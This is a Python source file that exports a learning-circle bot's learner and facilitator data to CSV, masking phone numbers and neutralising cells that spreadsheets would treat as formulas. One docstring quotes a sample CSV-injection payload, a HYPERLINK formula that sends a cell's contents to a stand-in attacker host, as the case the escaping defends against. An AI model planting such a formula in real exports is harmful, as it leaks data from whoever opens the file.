"""``circlebot export CODE``: two tables, never a full phone number.

- ``learners``: one row per learner: the facilitator's ``#handle`` for them (as in relays), their
  name, their masked number, status, RSVPs, check-ins and survey answers by key; ``n/a`` where a
  meeting was over before they joined (``flows.plans.in_time``), so a blank always means no reply.
- ``facilitator``: one row per answer of the facilitator: who (name or masked number), the meeting
  it is about (after-meeting check-ins), the question key and the answer.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass

from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.domain import relay_handles
from bot.domain.attendance import how_attended
from bot.domain.phone import mask
from bot.store.models import Address, Answer, Circle, Contact, Enrollment, Facilitator, Meeting, Rsvp
from flows import plans, surveys

ERASED = "(erased)"
NOT_YET = "n/a"  # a meeting that was over before the learner joined: not theirs, so no "no reply" for it
HOW_KEY = re.compile(r"^how(\d+):")
# A cell a spreadsheet would read as a formula (OWASP's CSV injection rule): it starts with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Table:
    """A header and its rows, ready for CSV."""

    header: list[str]
    rows: list[list[str]]


def to_csv(table: Table) -> str:
    """The table as CSV text (RFC 4180 line endings), every cell safe to open in a spreadsheet."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([inert(cell) for cell in table.header])
    writer.writerows([inert(cell) for cell in row] for row in table.rows)
    return out.getvalue()


def inert(cell: object) -> str:
    """``cell`` as text a spreadsheet shows as text, never runs as a formula.

    A learner's survey answer like ``=HYPERLINK("http://evil.example/?d="&B2,"Click me")``, a typed name
    or a masked number (``+1******0123``) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return gets a leading ``'`` (OWASP's advice), which spreadsheets read as "this is text".
    """
    text = "" if cell is None else str(cell)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def learners(session: Session, circle: Circle) -> Table:
    """One row per learner who ever enrolled, in the order they joined."""
    meetings = session.scalars(select(Meeting).where(Meeting.circle_id == circle.id).order_by(Meeting.seq)).all()
    enrolled = session.execute(
        select(Enrollment, Contact)
        .join(Contact, Contact.id == Enrollment.contact_id)
        .where(Enrollment.circle_id == circle.id)
        .order_by(Enrollment.id)
    ).all()
    handles = relay_handles.numbers(session, circle.facilitator_id)
    rsvps = {
        (r.contact_id, r.meeting_id): r.answer
        for r in session.scalars(select(Rsvp).where(Rsvp.meeting_id.in_([m.id for m in meetings])))
    }
    came = how_attended(session, [m.id for m in meetings])
    answers = _answers(session, circle)
    survey_keys = [f"learner:{q.key}" for q in surveys.LEARNER.questions]
    header = (
        ["handle", "name", "phone", "status"]
        + [f"rsvp_{m.seq}" for m in meetings]
        + [f"attended_{m.seq}" for m in meetings]
        + [f"checkin_{m.seq}" for m in meetings]
        + survey_keys
    )
    rows = []
    for enrollment, contact in enrolled:
        mine = answers.get(f"enrollment:{enrollment.id}", {})
        before = {m.id for m in meetings if not plans.in_time(enrollment.created_at, _meeting(m))}
        if contact.erased_at:
            who = ["", ERASED, ""]
        else:
            handle = handles.get(contact.id)
            phone = _first_address(session, contact.id)
            who = [f"#{handle}" if handle else "", contact.name or "", mask(phone) if phone else ""]
        rows.append(
            who
            + [enrollment.status]
            + [rsvps.get((contact.id, m.id), NOT_YET if m.id in before else "") for m in meetings]
            + [came.get((contact.id, m.id), NOT_YET if m.id in before else "") for m in meetings]
            + [_cell(mine.get(f"checkin:{m.seq}"), NOT_YET if m.id in before else "") for m in meetings]
            + [_cell(mine.get(k)) for k in survey_keys]
        )
    return Table(header, rows)


def facilitator(session: Session, circle: Circle) -> Table:
    """One row per answer a facilitator of this circle gave (the end survey, after-meeting check-ins)."""
    answers = _answers(session, circle)
    names = {}
    for subject in answers:
        if subject.startswith("facilitator:"):
            person = session.get(Facilitator, int(subject.split(":")[1]))
            contact = session.get(Contact, person.contact_id) if person and person.contact_id else None
            if person is None:
                names[subject] = ""
            elif contact is None:
                names[subject] = person.name or ""
            else:
                names[subject] = person.name or contact.name or mask(_first_address(session, contact.id))
    rows = []
    for subject, values in sorted(answers.items()):
        if subject in names:
            for key, value in sorted(values.items(), key=lambda kv: _key_order(kv[0])):
                how = HOW_KEY.match(key)
                rows.append([names[subject], how.group(1) if how else "", key, _cell(value)])
    return Table(["facilitator", "meeting", "question", "answer"], rows)


def _answers(session: Session, circle: Circle) -> dict[str, dict[str, str | None]]:
    answers: dict[str, dict[str, str | None]] = {}
    for answer in session.scalars(select(Answer).where(Answer.circle_id == circle.id)):
        answers.setdefault(answer.subject, {})[answer.question_key] = answer.value
    return answers


def _key_order(key: str) -> tuple:
    how = HOW_KEY.match(key)
    return (0, int(how.group(1)), key) if how else (1, 0, key)


def _cell(value: str | None, empty: str = "") -> str:
    return empty if value is None else value


def _meeting(m: Meeting) -> plans.Meeting:
    return plans.Meeting(m.id, m.seq, m.starts_at, m.status, m.ends_at)


def _first_address(session: Session, contact_id: int) -> str | None:
    """A contact's first address (a phone, or a Telegram chat id), to show masked."""
    return session.scalar(select(Address.value).where(Address.contact_id == contact_id).order_by(Address.id).limit(1))
